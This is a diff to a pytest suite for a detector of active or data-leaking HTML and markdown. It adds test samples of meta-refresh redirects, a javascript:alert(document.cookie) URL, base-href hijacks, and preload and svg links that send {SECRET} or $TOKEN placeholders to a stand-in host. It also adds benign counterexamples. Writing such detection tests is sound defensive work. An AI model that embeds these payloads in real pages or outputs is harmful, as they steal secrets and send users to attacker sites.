@@ -112,7 +112,19 @@ REFERENCED_IMAGES = {  # the placeholder is in a reference definition, which is 
 }
 
 
-ATTACKS = {**SCRIPT_LINKS, **ELEMENTS, **EXFILTRATING_IMAGES, **REFERENCED_IMAGES}
+REDIRECTS = {  # what sends the reader, or every relative link of the page, elsewhere unasked
+    "meta refresh to a script url": '<meta http-equiv="refresh" content="0;url=javascript:alert(document.cookie)">',
+    "meta refresh with a placeholder": '<meta http-equiv="refresh" content="0; url=https://x.example/p?d={SECRET}">',
+    "meta refresh to an address": "<meta http-equiv=Refresh content=\"1;URL='https://x.example/login'\">",
+    "meta refresh, content first": '<meta content="0,url=https://x.example/" http-equiv="refresh">',
+    "meta refresh, decoded": '<meta http-equiv="&#114;efresh" content="0;url&#61;//x.example/">',
+    "base": '<base href="https://x.example/">',
+    "base without a scheme": "<base href=//x.example/>",
+    "link fetched with a placeholder": '<link rel="preload" as="image" href="https://x.example/p?d=$TOKEN">',
+    "svg image with a placeholder": '<svg><image href="https://x.example/p?d={SECRET}"/></svg>',
+}
+
+ATTACKS = {**SCRIPT_LINKS, **ELEMENTS, **EXFILTRATING_IMAGES, **REFERENCED_IMAGES, **REDIRECTS}
 
 
 @pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
@@ -154,6 +166,12 @@ ORDINARY = {
     "link (not image) to a template": "See [the docs][d].\n\n[d]: https://example.com/{version}/retry",
     "inline image beside a templated definition": "![d](https://example.com/a.png)\n\n[d]: https://example.com/{v}",
     "templated definition in a fence": "![ok][r]\n\n```md\n[r]: https://x.example/p?d={SECRET}\n```",
+    "meta without a refresh": '<meta charset="utf-8">\n<meta name="viewport" content="width=device-width">',
+    "meta refresh without an address": '<meta http-equiv="refresh" content="30">',
+    "base without an address": '<base target="_blank">',
+    "form with a templated action": '<form action="https://example.com/{id}/vote"><button>+1</button></form>',
+    "link to a templated address": '<a href="https://example.com/{owner}/{repo}">repo</a>',
+    "meta refresh in a fence": '```html\n<meta http-equiv="refresh" content="0;url=/new">\n<base href="/">\n```',
     "image reference in a code span": "Write `![ok][r]` for it.\n\n[r]: https://example.com/{v}/a.png",
 }
 
@@ -192,7 +210,8 @@ def test_a_pathological_text_is_read_in_one_pass(unit: str) -> None:
 # what the finder hands its judges of one URL, label or tag, for each adversarial unit: a
 # reference image after every definition, references and labels never closed, definitions
 # with nothing after them
-ADVERSARIAL_UNITS = ["[r]: {x}\n![r]", "![r][", "[a", "[a]:\n", "![", "[r]: <{x}\n![r][r]"]
+ADVERSARIAL_UNITS = ["[r]: {x}\n![r]", "![r][", "[a", "[a]:\n", "![", "[r]: <{x}\n![r][r]",
+                     "<meta http-equiv=refresh content='", "<base ", "<meta content=0;url= ", "<link href={"]
 
 
 @pytest.mark.parametrize("unit", ADVERSARIAL_UNITS)
@@ -201,13 +220,13 @@ def test_each_url_label_and_tag_is_judged_a_bounded_number_of_times(unit: str, m
     and never more than a few times the text itself: nothing is compared with every later one."""
     looked_at = [0]
 
-    def counting(judge: Callable[[str], object]) -> Callable[[str], object]:
-        def judged(value: str) -> object:
-            looked_at[0] += len(value) + 1
-            return judge(value)
+    def counting(judge: Callable[..., object]) -> Callable[..., object]:
+        def judged(*values: str) -> object:
+            looked_at[0] += sum(len(v) for v in values if isinstance(v, str)) + 1
+            return judge(*values)
         return judged
 
-    for name in ("asks_for_data", "is_script_url", "_label"):
+    for name in ("asks_for_data", "is_script_url", "_label", "_any_acts", "_refresh_url"):
         monkeypatch.setattr(active_module, name, counting(getattr(active_module, name)))
 
     def characters(size: int) -> int:
